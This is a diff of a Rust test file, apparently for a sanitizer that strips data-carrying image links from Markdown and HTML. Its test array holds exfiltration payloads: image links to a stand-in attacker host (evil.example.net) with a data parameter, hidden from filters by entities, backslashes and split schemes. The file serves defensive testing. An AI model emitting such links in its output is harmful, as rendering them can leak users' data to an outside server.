@@ -16,7 +16,7 @@ const CARRYING: [&str; 74] = [
     "![x](\\//evil.example.net/p.png?d=B)",
     "![x](&sol;&sol;evil.example.net/p.png?d=B)",
     "![x][r]\n\n[r]: https&colon;//evil.example.net/p.png?d=B",
-    "![x][r]\n\n[r]: \\\\evil.example.net/p.png?d=B",
+    "![x][r]\n\n[r]: \\\\\\\\evil.example.net/p.png?d=B",
     "<img src=\"ht\ttps://evil.example.net/p.png?d=B\">",
     "<img src=\"htt\nps://evil.example.net/p.png?d=B\">",
     "<img src=\"h&#116;tps://evil.example.net/p.png?d=B\">",
@@ -211,7 +211,20 @@ fn hostile_texts_take_linear_time() {
         began.elapsed().as_secs_f64()
     };
     for piece in [
-        "<img alt=\"", "![", "[", "](", "&#", "h&#116;", "<style>", "\\", "> ", "<a href=", "/\t", "http:", "![x](h", "=\"='",
+        "<img alt=\"",
+        "![",
+        "[",
+        "](",
+        "&#",
+        "h&#116;",
+        "<style>",
+        "\\",
+        "> ",
+        "<a href=",
+        "/\t",
+        "http:",
+        "![x](h",
+        "=\"='",
     ] {
         let (short, long) = (piece.repeat(20_000), piece.repeat(200_000));
         time(&short);
